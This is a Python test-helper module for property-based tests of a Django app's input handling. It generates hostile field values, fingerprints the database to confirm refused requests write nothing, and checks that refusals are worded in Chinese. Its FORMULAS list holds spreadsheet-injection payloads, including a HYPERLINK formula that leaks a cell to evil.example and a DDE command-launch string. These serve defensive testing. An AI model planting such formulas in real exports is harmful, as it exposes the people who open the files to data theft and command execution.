"""Helpers of the property-based tests of bad input (issue 12): hostile values, the database's fingerprint,
and the judgement of an answer: never a 500, a refusal writes nothing, and says so in Chinese.

A refusal is an answer that shows a form error or an error message, or a 4xx page. Its fingerprint of the
database (every table's row count, and a hash of the rows of the records the request is about and of every
row that points at them) must equal the one taken before the request.
"""

import hashlib
import html
import os
import re
import unicodedata
from contextlib import contextmanager

from django.apps import apps
from django.contrib.messages import constants as message_levels
from django.db import connection, models, transaction
from django.forms import BaseForm
from hypothesis import HealthCheck, settings
from hypothesis import strategies as st

# How many more examples than the suite's own to try (HOSTILE_EXAMPLES_SCALE=10 for a long run by hand).
SCALE = float(os.environ.get("HOSTILE_EXAMPLES_SCALE", "1"))


def hostile_settings(max_examples: int):
    """The same examples on every machine (CI can replay a failure), no deadline, about a minute in all."""
    return settings(
        max_examples=max(1, round(max_examples * SCALE)),
        deadline=None,
        derandomize=True,
        database=None,
        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    )


# Hostile values ---------------------------------------------------------------------------------------

# Any character but a surrogate (which a request cannot carry) and NUL (sent on purpose, below).
_CHARACTERS = st.characters(exclude_categories=("Cs",), exclude_characters="\x00")
_CONTROL = st.sampled_from(
    ["\x01", "\x07", "\x08", "\x0b", "\x1b", "\x7f", "\u200b", "\u202e", "\ufeff", "\uffff"]
)
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "=1+1",
    "+SUM(A1:A9)",
    "-2+3",
    "@cmd",
    "=cmd|' /C calc'!A0",
]
DATES = [
    "2024-02-30",
    "2023-02-29",
    "99999-01-01",
    "0000-00-00",
    "0001-01-01",
    "9999-12-31",
    "2024-13-01",
    "2024/02/30",
    "2024年2月30日",
    "30.02.2024",
    "-2024-01-01",
    "2024-01-01T25:00",
]
NUMBERS = [
    "-1",
    "0",
    "-0",
    "2147483648",
    "-2147483649",
    "9223372036854775808",
    "99999999999999999999999999",
    "1e309",
    "-1e309",
    "1e-400",
    "NaN",
    "Infinity",
    "-inf",
    "0x10",
    "１２",
    "1,000",
    "3.14159265358979323846264338327950288",
    "210422198503041234",
]

text = st.text(_CHARACTERS, max_size=40)
control_text = st.builds(lambda a, c, b: a + c + b, text, _CONTROL, text)
long_text = st.builds(
    lambda ch, n: ch * n, st.sampled_from(["王", "a", " ", "\n", "𠀀"]), st.integers(2_000, 20_000)
)
nul_text = st.builds(lambda a, b: a + "\x00" + b, text, text)
# A value typed into a field: mostly odd text and numbers, now and then a NUL (a bad request, refused whole).
hostile_value = st.one_of(
    text,
    control_text,
    long_text,
    st.sampled_from(
        NUMBERS + DATES + FORMULAS + ["", " ", "None", "null", "[]", "{}", "on", "true", "王\x00"]
    ),
    st.integers(-(2**70), 2**70).map(str),
    st.floats(allow_nan=True, allow_infinity=True).map(repr),
)


# The database's fingerprint -----------------------------------------------------------------------------

# Records a refused request may write: sessions, the log of full ID numbers seen, login throttling, uploads
# kept for their preview (their import is what must write nothing), and the queue of background jobs.
UNFINGERPRINTED = {
    "sessions.session",
    "candidates.importbatch",
    "candidates.personaldataview",
    "axes.accessattempt",
    "axes.accesslog",
    "axes.accessfailurelog",
    "accounts.failedlogin",
    "django_tasks_db.dbtaskresult",
    "jobs.job",
}


def _fingerprinted_models():
    for model in apps.get_models():
        if model._meta.label_lower not in UNFINGERPRINTED and model._meta.managed and not model._meta.proxy:
            yield model


def _rows_hash(queryset) -> str:
    digest = hashlib.sha256()
    for row in queryset.order_by("pk").values_list():
        digest.update(repr(row).encode())
    return digest.hexdigest()[:16]


def _table_sizes() -> dict:
    """Every table's row count and largest key, in one statement."""
    models_ = list(_fingerprinted_models())
    quote = connection.ops.quote_name
    parts = []
    for model in models_:
        table, pk = quote(model._meta.db_table), quote(model._meta.pk.column)
        parts.append(f"(SELECT COUNT(*) FROM {table})")
        parts.append(
            f"(SELECT MAX({pk}) FROM {table})"
            if model._meta.pk.get_internal_type().endswith("AutoField")
            else "0"
        )
    with connection.cursor() as cursor:
        cursor.execute("SELECT " + ", ".join(parts))
        values = cursor.fetchone()
    return {model._meta.label_lower: (values[2 * i], values[2 * i + 1]) for i, model in enumerate(models_)}


def fingerprint(*anchors: models.Model) -> dict:
    """Every table's row count and largest key; the rows of `anchors` and every row that points at one of
    them, hashed (history rows are only ever added, which the counts show)."""
    found = _table_sizes()
    for anchor in anchors:
        anchor_model = type(anchor)._meta.concrete_model
        found[f"{anchor_model._meta.label_lower}#{anchor.pk}"] = _rows_hash(
            anchor_model._base_manager.filter(pk=anchor.pk)
        )
        for model in _fingerprinted_models():
            if model._meta.label_lower.split(".")[1].startswith("historical"):
                continue
            for field in model._meta.concrete_fields:
                if isinstance(field, models.ForeignKey) and field.related_model is anchor_model:
                    rows = model._base_manager.filter(**{field.attname: anchor.pk})
                    found[f"{model._meta.label_lower}.{field.name}→{anchor.pk}"] = _rows_hash(rows)
    return found


def changes(before: dict, after: dict) -> dict:
    return {
        key: (before.get(key), after.get(key))
        for key in before.keys() | after.keys()
        if before.get(key) != after.get(key)
    }


_WRITE = re.compile(r'^\s*(INSERT\s+INTO|UPDATE|DELETE\s+FROM|COPY)\s+"?(\w+)"?', re.I)


@contextmanager
def writes_seen():
    """The tables written by the statements run inside the block (fingerprinted tables only)."""
    tables = {model._meta.db_table for model in _fingerprinted_models()}
    seen: list[str] = []

    def wrapper(execute, sql, params, many, context):
        match = _WRITE.match(sql)
        if match and match.group(2) in tables:
            seen.append(match.group(2))
        return execute(sql, params, many, context)

    with connection.execute_wrapper(wrapper):
        yield seen


@contextmanager
def rolled_back():
    """One example's writes, undone after it: the next example meets the same database."""
    with transaction.atomic():
        yield
        transaction.set_rollback(True)


# Is it Chinese? ------------------------------------------------------------------------------------------

_CJK = re.compile(r"[\u3400-\u9fff\uf900-\ufaff]")
# Three English words in a row: a sentence the catalogue does not translate.
_ENGLISH = re.compile(r"[A-Za-z]{2,}(?:[ ,;:'’-]+[A-Za-z]{2,}){2,}")
_QUOTED = re.compile(r"“[^”]*”|「[^」]*」|\"[^\"]*\"")


def _echo_forms(value: str) -> set[str]:
    value = str(value)
    forms = {
        value,
        value.strip(),
        unicodedata.normalize("NFKC", value),
        unicodedata.normalize("NFKC", value).strip(),
    }
    forms |= {re.sub(r"\s+", "", f) for f in list(forms)} | {
        re.sub(r"\s+", " ", f).strip() for f in list(forms)
    }
    return {f for f in forms if f}


def english_in(message: str, echoed=()) -> str | None:
    """The English sentence in `message`, leaving out the values it quotes back (what the user typed)."""
    remaining = _QUOTED.sub(" ", str(message))
    for value in sorted({f for v in echoed for f in _echo_forms(v)}, key=len, reverse=True):
        remaining = remaining.replace(value, " ")
    match = _ENGLISH.search(remaining)
    return match.group(0) if match else None


def assert_chinese(message: str, echoed=()) -> None:
    message = str(message)
    assert _CJK.search(message), f"a refusal without Chinese: {message!r}"
    english = english_in(message, echoed)
    assert english is None, f"an English sentence ({english!r}) in the refusal {message!r}"


def page_text(response) -> str:
    """The visible text of a page's main part (the content block of base.html, or the whole page)."""
    body = response.content.decode(errors="replace")
    main = re.search(r"<main\b.*?</main>", body, re.S)
    body = main.group(0) if main else body
    body = re.sub(r"<(script|style)\b.*?</\1>", " ", body, flags=re.S)
    return html.unescape(re.sub(r"<[^>]+>", " ", body))


# Judging an answer ----------------------------------------------------------------------------------------


def context_forms(response) -> list[BaseForm]:
    """The forms a page was rendered with, filter forms left out."""
    found, skip = [], set()
    for context in response.context or []:
        for layer in getattr(context, "dicts", [context]):
            for value in layer.values() if hasattr(layer, "values") else []:
                form = getattr(value, "form", None)
                if hasattr(value, "qs") and isinstance(form, BaseForm):
                    skip.add(id(form))
                if isinstance(value, BaseForm) and value not in found:
                    found.append(value)
    return [form for form in found if id(form) not in skip]


def form_errors(response) -> list[str]:
    return [
        str(m) for form in context_forms(response) if form.is_bound for ms in form.errors.values() for m in ms
    ]


def page_messages(response, *, levels=(message_levels.ERROR, message_levels.WARNING)) -> list[str]:
    storage = getattr(response.wsgi_request, "_messages", None)
    return [str(m) for m in storage or [] if m.level in levels]


def judge(response, before: dict, after: dict, *, echoed=(), extra_errors=()) -> bool:
    """Never a 500; a refusal writes nothing and speaks Chinese. Returns whether it was a refusal."""
    status = response.status_code
    assert status < 500, "a server error"
    errors = form_errors(response) + list(extra_errors)
    problems = errors + page_messages(response)
    for message in problems:
        assert_chinese(message, echoed)
    refused = (
        bool(errors) or bool(page_messages(response, levels=(message_levels.ERROR,))) or 400 <= status < 500
    )
    if status in (400, 403, 404, 429):
        assert_chinese(page_text(response), echoed)
    if refused:
        assert not changes(before, after), f"a refused request wrote {changes(before, after)}"
    return refused
